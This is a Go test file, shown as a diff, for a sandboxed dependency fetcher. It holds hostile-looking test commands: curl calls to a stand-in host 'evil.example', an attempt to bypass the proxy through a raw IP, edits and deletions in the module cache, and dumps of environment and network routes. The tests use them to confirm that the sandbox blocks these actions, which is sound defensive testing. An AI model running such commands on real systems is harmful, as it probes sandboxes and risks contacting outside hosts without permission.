@@ -1,0 +1,317 @@
+package packages
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"log/slog"
+	"maps"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/go-git/go-git/v5"
+	"github.com/go-git/go-git/v5/plumbing"
+	"github.com/go-git/go-git/v5/plumbing/object"
+	"github.com/stretchr/testify/require"
+
+	"github.com/bobbinhq/bobbin/repo"
+	"github.com/bobbinhq/bobbin/repo/sandbox"
+)
+
+func TestMain(m *testing.M) {
+	sandbox.Main()
+	os.Setenv("SECRET_OF_OURS", "xoxb-1") // no command may see it
+	os.Exit(m.Run())
+}
+
+var boxes = sync.OnceValue(func() map[string]*sandbox.Sandbox {
+	out := map[string]*sandbox.Sandbox{}
+	for _, kind := range []string{sandbox.KindNamespaces, sandbox.KindBubblewrap} {
+		s, err := sandbox.Open(context.Background(), sandbox.Config{Kind: kind})
+		if err == nil {
+			out[kind] = s
+		}
+	}
+	return out
+})
+
+// box is a sandbox that holds here.
+func box(t *testing.T) *sandbox.Sandbox {
+	t.Helper()
+	for _, s := range boxes() {
+		return s
+	}
+	t.Skip("no sandbox holds here")
+	return nil
+}
+
+type files map[string]string
+
+// mirrorOf is a mirror of a repository with one commit of the files.
+func mirrorOf(t *testing.T, tree files) (*repo.Mirror, string) {
+	t.Helper()
+	dir := t.TempDir()
+	origin := filepath.Join(dir, "origin")
+	r, err := git.PlainInitWithOptions(origin, &git.PlainInitOptions{InitOptions: git.InitOptions{DefaultBranch: plumbing.Main}})
+	require.NoError(t, err)
+	w, err := r.Worktree()
+	require.NoError(t, err)
+	for _, name := range slices.Sorted(maps.Keys(tree)) {
+		file := filepath.Join(origin, name)
+		require.NoError(t, os.MkdirAll(filepath.Dir(file), 0o755))
+		require.NoError(t, os.WriteFile(file, []byte(tree[name]), 0o644))
+		require.NoError(t, w.AddWithOptions(&git.AddOptions{Path: name, SkipStatus: true}))
+	}
+	by := &object.Signature{Name: "Ada", Email: "ada@example.com", When: time.Unix(1700000000, 0)}
+	commit, err := w.Commit("a tree", &git.CommitOptions{Author: by})
+	require.NoError(t, err)
+	all := &repo.Mirrors{Dir: filepath.Join(dir, "mirrors"), Log: slog.New(slog.DiscardHandler)}
+	t.Cleanup(func() { all.Close() })
+	m, err := all.Open(t.Context(), repo.Remote{Name: "shop", URL: origin})
+	require.NoError(t, err)
+	return m, commit.String()
+}
+
+// fetching is a fetcher whose network has the registry alone, and a job for the files.
+func fetching(t *testing.T, s *sandbox.Sandbox, tree files) (*Fetcher, Job, registry) {
+	t.Helper()
+	r := newRegistry(t)
+	m, commit := mirrorOf(t, tree)
+	return &Fetcher{Sandbox: s, Network: r}, Job{Mirror: m, Commit: commit, Config: Config{Env: mirrors()}, Dir: filepath.Join(t.TempDir(), "packages")}, r
+}
+
+func fetch(t *testing.T, f *Fetcher, j Job) *Packages {
+	t.Helper()
+	p, err := f.Fetch(t.Context(), j)
+	if e := (*Error)(nil); errors.As(err, &e) {
+		t.Log(e.Output)
+	}
+	require.NoError(t, err)
+	require.NotNil(t, p)
+	t.Cleanup(p.Close)
+	return p
+}
+
+// run runs a line over the files, with the packages in sight.
+func run(t *testing.T, s *sandbox.Sandbox, p *Packages, tree files, line string) (string, error) {
+	t.Helper()
+	dir := t.TempDir()
+	for name, text := range tree {
+		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755))
+		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644))
+	}
+	require.NoError(t, s.Own(dir))
+	c := s.Command(dir, "sh", "-c", line)
+	var out bytes.Buffer
+	c.Stdout, c.Stderr = &out, &out
+	c.Mounts, c.Env = p.Mounts(dir)
+	c.Env = append(c.Env, "GOFLAGS=", "GOCACHE=/tmp/go")
+	err := c.Run(t.Context())
+	return out.String(), err
+}
+
+// failure is the fetcher's own word on what went wrong.
+func failure(t *testing.T, f *Fetcher, j Job) *Error {
+	t.Helper()
+	p, err := f.Fetch(t.Context(), j)
+	require.Nil(t, p)
+	var e *Error
+	require.ErrorAs(t, err, &e)
+	t.Log(e.Error() + "\n" + e.Output)
+	left, _ := os.ReadDir(j.Dir)
+	for _, l := range left {
+		require.False(t, strings.HasPrefix(l.Name(), makingPrefix), l.Name())
+	}
+	return e
+}
+
+func TestGoModules(t *testing.T) {
+	t.Parallel()
+	for kind, s := range boxes() {
+		t.Run(kind, func(t *testing.T) {
+			t.Parallel()
+			f, j, r := fetching(t, s, goFiles())
+			var names []string
+			j.Begin = func(n string) { names = append(names, n) }
+			out, err := run(t, s, nil, goFiles(), "go build ./...")
+			require.Error(t, err, "the control: without it the build fails")
+			require.Contains(t, out, "example.com/greet")
+
+			p := fetch(t, f, j)
+			require.True(t, p.Fetched)
+			out, err = run(t, s, p, goFiles(), "go build ./...")
+			require.NoError(t, err, out)
+			require.Equal(t, []string{"go.sum"}, names)
+			require.Contains(t, r.Asked(), "/go/example.com/greet/@v/v1.0.0.zip")
+
+			// A second time nothing is asked.
+			before := len(r.Asked())
+			again := fetch(t, f, j)
+			require.False(t, again.Fetched)
+			require.Equal(t, p.Key(), again.Key())
+			require.Len(t, r.Asked(), before)
+			require.Len(t, names, 1)
+
+			// Commands cannot write what was fetched, nor leave through it.
+			out, err = run(t, s, p, goFiles(), `for line in 'touch $GOMODCACHE/x' 'echo x >> $GOMODCACHE/example.com/greet@v1.0.0/greet.go' \
+				'rm -rf $GOMODCACHE/example.com' 'chmod u+w $GOMODCACHE' 'test -e /run/way-out' 'test -n "$HTTP_PROXY"'; do
+				if sh -c "$line" 2>/dev/null; then echo "done: $line"; fi
+			done
+			test -d $GOMODCACHE/example.com/greet@v1.0.0 && touch /src/x && echo the control`)
+			require.NoError(t, err)
+			require.Equal(t, "the control\n", out)
+		})
+	}
+}
+
+// What is copied is lock files and manifests, from the commit; the environment is empty.
+func TestWhatTheCommandsSee(t *testing.T) {
+	t.Parallel()
+	s := box(t)
+	tree := goFiles()
+	tree["web/package.json"], tree[".env"], tree["secret.pem"] = "{}", "TOKEN=x", "x"
+	f, j, _ := fetching(t, s, tree)
+	j.Config.Run = []string{"find . -type f | sort > $PACKAGES/go/files; env | sort > $PACKAGES/go/env; cat /etc/hostname /proc/net/route > $PACKAGES/go/net 2>/dev/null; true"}
+
+	p := fetch(t, f, j)
+	text := func(name string) string {
+		b, err := os.ReadFile(filepath.Join(p.dir, "out", "go", name))
+		require.NoError(t, err)
+		return string(b)
+	}
+	require.Equal(t, "./go.mod\n./go.sum\n./web/package.json\n", text("files"))
+	require.NotContains(t, text("env"), "xoxb")
+	require.Contains(t, text("env"), "HTTPS_PROXY=http://127.0.0.1:")
+	require.LessOrEqual(t, strings.Count(text("net"), "\n"), 1, "no route")
+}
+
+// A host that nobody allowed is refused and named, whichever way it is asked for.
+func TestAnotherHostIsRefusedAndNamed(t *testing.T) {
+	t.Parallel()
+	s := box(t)
+	f, j, r := fetching(t, s, goFiles())
+	j.Config.Run = []string{"curl -sS --max-time 20 https://evil.example/x; curl -sSf --max-time 20 http://inside.example/; exit 3"}
+	j.Config.Allow = []string{registryHost, "inside.example"}
+	e := failure(t, f, j)
+	require.Equal(t, []string{"evil.example:443", "inside.example"}, targets(e))
+	require.Contains(t, e.Why, "failed with exit code 3 after something was refused")
+	require.Contains(t, e.Cure, "setup.allow")
+	require.Empty(t, r.Dialled())
+
+	// The same where the command succeeds: it is said with what was fetched.
+	j.Config.Run = []string{"curl -s --max-time 20 http://evil.example/x; true"}
+	p := fetch(t, f, j)
+	require.Equal(t, "evil.example", p.Refused[0].Target)
+	// Without the proxy there is no way at all; and with the host allowed, that is where it leads.
+	j.Config.Run = []string{"curl -sS --noproxy '*' --max-time 20 http://198.41.0.66/"}
+	require.Empty(t, failure(t, f, j).Refused)
+	require.Empty(t, r.Dialled())
+	j.Config.Run, j.Config.Allow = []string{"curl -s --max-time 20 http://evil.example/x"}, []string{"evil.example"}
+	fetch(t, f, j)
+	require.Equal(t, []string{"198.41.0.66:80"}, r.Dialled())
+}
+
+func targets(e *Error) (out []string) {
+	for _, r := range e.Refused {
+		out = append(out, r.Target)
+	}
+	return out
+}
+
+// A go.mod that names a module elsewhere.
+func TestModuleOfAnotherHost(t *testing.T) {
+	t.Parallel()
+	tree := goFiles()
+	f, j, r := fetching(t, box(t), tree)
+	j.Config.Env = append(mirrors(), "GOPROXY=https://evil.example,direct", "GOVCS=*:all")
+	j.Config.Allow = []string{registryHost}
+	e := failure(t, f, j)
+	require.Contains(t, e.Error(), "refused evil.example:443: it is not among the hosts that setup.allow names")
+	require.Empty(t, r.Dialled())
+}
+
+// What is fetched depends on what decides it, and on nothing else.
+func TestKeys(t *testing.T) {
+	t.Parallel()
+	key := func(tree files, c Config, versions string) string {
+		m, commit := mirrorOf(t, tree)
+		p, err := find(t.Context(), m, commit, c)
+		require.NoError(t, err)
+		k, err := p.key(m, commit, c, versions)
+		require.NoError(t, err)
+		return k
+	}
+	with := func(name, text string) files {
+		tree := goFiles()
+		tree[name] = text
+		return tree
+	}
+	first := key(goFiles(), Config{}, "go1")
+	require.Equal(t, first, key(with("a.go", "package other\n"), Config{Time: time.Minute}, "go1"))
+	other := map[string]string{
+		"lock":     key(with("go.sum", goFiles()["go.sum"]+"\n"), Config{}, "go1"),
+		"manifest": key(with("go.mod", goFiles()["go.mod"]+"\n"), Config{}, "go1"),
+		"run":      key(goFiles(), Config{Run: []string{"go mod download -x"}}, "go1"),
+		"allow":    key(goFiles(), Config{Allow: []string{"a.example"}}, "go1"),
+		"env":      key(goFiles(), Config{Env: []string{"GOPROXY=http://a.example"}}, "go1"),
+		"tools":    key(goFiles(), Config{}, "go2"),
+		"more":     key(with("package-lock.json", "{}"), Config{}, "go1"),
+	}
+	seen := map[string]string{first: "first"}
+	for name, k := range other {
+		require.Empty(t, seen[k], name)
+		seen[k] = name
+	}
+}
+
+func TestWhatIsFound(t *testing.T) {
+	t.Parallel()
+	part := func(folder string, tree files) (lines []string) {
+		m, commit := mirrorOf(t, tree)
+		p, err := find(t.Context(), m, commit, Config{Folder: folder})
+		require.NoError(t, err)
+		for _, s := range p.steps {
+			lines = append(lines, s.dir+": "+s.line)
+		}
+		return lines
+	}
+	plan := func(tree files) []string { return part("", tree) }
+	require.Empty(t, plan(files{"README.md": "x", "go.mod": "module x\n"}))
+	require.Equal(t, []string{": go mod download"}, plan(goFiles()))
+	require.Equal(t, []string{"api: go mod download", "web: npm ci --ignore-scripts --no-audit --no-fund"}, plan(files{
+		"api/go.sum": "x", "web/package-lock.json": "{}", "lib/node_modules/a/package-lock.json": "{}", "vendor/b/go.sum": "x", "testdata/go.sum": "x", ".x/go.sum": "x", "api/deeper/go.sum": "x",
+	}))
+	require.Equal(t, []string{`: python3 -m pip install --only-binary=:all: --target "$PACKAGES/python" -r requirements-dev.txt -r requirements.txt`}, plan(files{
+		"go.sum": "x", "vendor/modules.txt": "x", "package-lock.json": "{}", "node_modules/x/index.js": "x", // in the repository itself
+		"requirements.txt": "x", "requirements-dev.txt": "y", "Cargo.lock": "x",
+	}))
+	const download = ": go mod download"
+	large := files{"go.sum": "x", "a/b/c/d/e/shop/go.sum": "x", "a/b/go.sum": "x", "other/package-lock.json": "{}", "a/b/c/d/e/shop/x/y/go.sum": "x"}
+	require.Equal(t, []string{"a/b/c/d/e/shop" + download}, part("a/b/c/d/e/shop", large), "its own")
+	require.Equal(t, []string{"a/b" + download}, part("a/b/other", large), "what it stands in")
+	require.Equal(t, []string{download}, part("docs", large))
+	delete(large, "go.sum")
+	require.Equal(t, []string{"a/b" + download}, part("a", large), "below it")
+	require.Empty(t, part("docs", large), "what others need")
+	require.Equal(t, []string{": cargo fetch --locked"}, plan(files{"Cargo.lock": "x", "Cargo.toml": "x", "src/main.rs": "x"}))
+}
+
+func TestOff(t *testing.T) {
+	t.Parallel()
+	f, j, r := fetching(t, box(t), goFiles())
+	j.Config.Off = true
+	p, err := f.Fetch(t.Context(), j)
+	require.NoError(t, err)
+	require.Nil(t, p)
+	mounts, env := p.Mounts(t.TempDir())
+	require.Empty(t, mounts)
+	require.Empty(t, env)
+	require.Empty(t, p.Key())
+	p.Close()
+	require.Empty(t, r.Asked())
+}
